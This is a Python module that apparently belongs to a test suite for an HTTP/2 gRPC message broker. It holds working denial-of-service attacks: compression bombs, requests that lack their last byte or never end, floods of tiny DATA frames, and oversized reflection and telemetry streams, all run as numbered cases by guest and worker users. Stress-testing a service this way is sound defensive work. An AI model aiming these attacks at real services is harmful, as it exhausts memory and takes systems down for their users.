"""Requests that are never whole, never ended, or far more than what came: numbers 1, 2 and 3."""

import asyncio
from collections.abc import Callable, Iterable, Iterator
from contextlib import AsyncExitStack
from itertools import count
from typing import Final

from abuse.peer import DEFLATE, GZIP, MESSAGING, Peer, Target, framed, varint, zipped
from abuse.siege import GUEST, WORKER, Attack, Case
from latermq_h2.http2 import frames
from latermq_h2.messages import PREFIX

MIB: Final = 1 << 20
SEND: Final = f"{MESSAGING}/SendMessage"
TELEMETRY: Final = f"{MESSAGING}/Telemetry"
REFLECTION: Final = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
REFLECTION_V1: Final = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
HOLD_S: Final = 1.5  # for the broker to have taken it all
SEND_MIB: Final = 129  # of a SendMessage, just within `server.request_bytes_max`
OTHER_BYTES: Final = (4 << 20) - 16  # of any other, within `server.other_request_bytes_max`
FLOOD_S: Final = 3.0


def zeros(bytes_count: int) -> Iterator[bytes]:
    for start in range(0, bytes_count, MIB):
        yield bytes(min(MIB, bytes_count - start))


def large_zeros() -> Iterator[bytes]:
    return zeros(SEND_MIB * MIB)


async def peers(stack: AsyncExitStack, target: Target, connections: int) -> list[Peer]:
    return [await stack.enter_async_context(await Peer.open(target)) for _ in range(connections)]


def packed_calls(
    pieces: Callable[[], Iterable[bytes]],
    path: str = SEND,
    *,
    calls: int = 1,
    connections: int = 1,
    end: bool = False,
    deflate: bool = False,
) -> Attack:
    """Calls of one compressed message each; `end`: whole, so that they are answered."""

    async def attack(target: Target) -> str:
        message = await asyncio.to_thread(zipped, pieces(), deflate=deflate)
        async with AsyncExitStack() as stack:
            opened = await peers(stack, target, connections)
            await asyncio.gather(*(one_by_one(peer, message) for peer in opened))
            return opened[0].said

    async def one_by_one(peer: Peer, message: bytes) -> None:
        streams = []
        for _ in range(calls):
            streams.append(peer.call(path, DEFLATE if deflate else GZIP))
            if not await peer.send(streams[-1], message, end=end) and peer.gone:
                return
        if end:
            for stream_id in streams:
                await peer.answered(stream_id, 10.0)
        else:
            await asyncio.sleep(HOLD_S)

    return attack


def one_large_field() -> Iterator[bytes]:
    """A message whose field 1 is a text: a reflection request's host."""
    yield b"\x0a" + varint(OTHER_BYTES)
    yield from zeros(OTHER_BYTES)


def stream_of_bombs(path: str, messages: int) -> Attack:
    """One call of many compressed messages, each as large as it may be."""

    async def attack(target: Target) -> str:
        message = await asyncio.to_thread(zipped, one_large_field())
        async with await Peer.open(target) as peer:
            stream_id = peer.call(path, GZIP)
            await peer.send(stream_id, message * messages)
            await peer.answered(stream_id, HOLD_S)
            return peer.said

    return attack


def incomplete(connections: int, mib: int, *, whole: bool = False) -> Attack:
    """Plain requests of 129 MiB that lack their last byte; `whole`: only their END_STREAM."""

    async def attack(target: Target) -> str:
        async with AsyncExitStack() as stack:
            opened = await peers(stack, target, connections)
            await asyncio.gather(*(some(peer) for peer in opened))
            await asyncio.sleep(HOLD_S)
            return opened[0].said

    async def some(peer: Peer) -> None:
        left, piece = mib, bytes(MIB)
        while left > 0 and not peer.goaway and not peer.gone:
            stream_id = peer.call(SEND)
            await peer.send(stream_id, PREFIX.pack(0, SEND_MIB * MIB))
            for _ in range(min(left, SEND_MIB) if whole else min(left, SEND_MIB - 1)):
                left -= 1
                if not await peer.send(stream_id, piece):
                    break

    return attack


def small_frames(size: int, connections: int) -> Attack:
    """Requests that grow by DATA of a few bytes: the pieces are to cost more than they hold."""

    async def attack(target: Target) -> str:
        async with AsyncExitStack() as stack:
            opened = await peers(stack, target, connections)
            await asyncio.gather(*(drip(peer) for peer in opened))
            await asyncio.sleep(0.5)
            return opened[0].said

    async def drip(peer: Peer) -> None:
        loop = asyncio.get_running_loop()
        until_s = loop.time() + FLOOD_S
        for _ in count():
            stream_id = peer.call(SEND)
            await peer.send(stream_id, PREFIX.pack(0, 100 * MIB))
            piece = frames.frame(frames.DATA, 0, stream_id, bytes(size)) * 1_000
            for _ in range(900_000 // (1_000 * size)):  # within the window of a stream
                peer.write(piece)
                if not await peer.flush() or peer.over(stream_id) or loop.time() > until_s:
                    break
            if peer.gone or peer.goaway or loop.time() > until_s:
                return

    return attack


def unended(messages: int, connections: int) -> Attack:
    """Small whole messages whose calls never end: what is kept for each is more than its bytes."""

    async def attack(target: Target) -> str:
        async with AsyncExitStack() as stack:
            opened = await peers(stack, target, connections)
            for peer in opened:
                for _ in range(messages):
                    stream_id = peer.call(SEND)
                    peer.write(frames.frame(frames.DATA, 0, stream_id, framed(bytes(1_000))))
                if not await peer.flush():
                    break
            await asyncio.sleep(HOLD_S)
            return opened[0].said

    return attack


CASES: Final = (
    Case(
        number=1,
        name="gzip-unended",
        what="10 gzip calls of 129 MiB, 1.2 MB on the wire, whole but not ended",
        attack=packed_calls(large_zeros, calls=10),
    ),
    Case(
        number=1,
        name="gzip-unended-signed",
        what="the same by a user who may send",
        attack=packed_calls(large_zeros, calls=10),
        by=WORKER,
    ),
    Case(
        number=1,
        name="deflate-unended-signed",
        what="the same with deflate, on 8 connections",
        attack=packed_calls(large_zeros, calls=2, connections=8, deflate=True),
        by=WORKER,
        always=False,
    ),
    Case(
        number=1,
        name="gzip-whole",
        what="20 gzip calls of 129 MiB, whole and ended",
        attack=packed_calls(large_zeros, calls=20, end=True),
        always=False,
    ),
    Case(
        number=1,
        name="gzip-whole-signed",
        what="the same by a user without the right to send",
        attack=packed_calls(large_zeros, calls=20, end=True),
        by=GUEST,
    ),
    Case(
        number=1,
        name="small-unended",
        what="10,000 calls with a small message that are not ended, by a user without rights",
        attack=unended(1_000, 10),
        by=GUEST,
        always=False,
    ),
    Case(
        number=2,
        name="incomplete",
        what="4 connections of 250 MiB in requests that lack a byte",
        attack=incomplete(4, 250),
        always=False,
    ),
    Case(
        number=2,
        name="incomplete-signed",
        what="the same by a user who may send",
        attack=incomplete(4, 250),
        by=WORKER,
    ),
    Case(
        number=2,
        name="unended-signed",
        what="the same in requests that lack their end",
        attack=incomplete(4, 250, whole=True),
        by=WORKER,
        always=False,
    ),
    Case(
        number=2,
        name="two-byte-data",
        what="DATA of 2 bytes, as many as go through in 3 s",
        attack=small_frames(2, 2),
        always=False,
    ),
    Case(
        number=2,
        name="two-byte-data-signed",
        what="the same by a user who may send",
        attack=small_frames(2, 2),
        by=WORKER,
    ),
    Case(
        number=3,
        name="reflection-gzip",
        what="a reflection stream of 216 gzip messages of 4 MiB",
        attack=stream_of_bombs(REFLECTION, 216),
    ),
    Case(
        number=3,
        name="reflection-gzip-signed",
        what="the same by a user without rights",
        attack=stream_of_bombs(REFLECTION, 216),
        by=GUEST,
        always=False,
    ),
    Case(
        number=3,
        name="reflection-v1-gzip-signed",
        what="the same by its other name",
        attack=stream_of_bombs(REFLECTION_V1, 216),
        by=GUEST,
        always=False,
    ),
    Case(
        number=3,
        name="telemetry-gzip",
        what="a telemetry stream of 216 gzip messages of 4 MiB",
        attack=stream_of_bombs(TELEMETRY, 216),
        always=False,
    ),
    Case(
        number=3,
        name="telemetry-gzip-signed",
        what="the same by a user without rights",
        attack=stream_of_bombs(TELEMETRY, 216),
        by=GUEST,
    ),
)
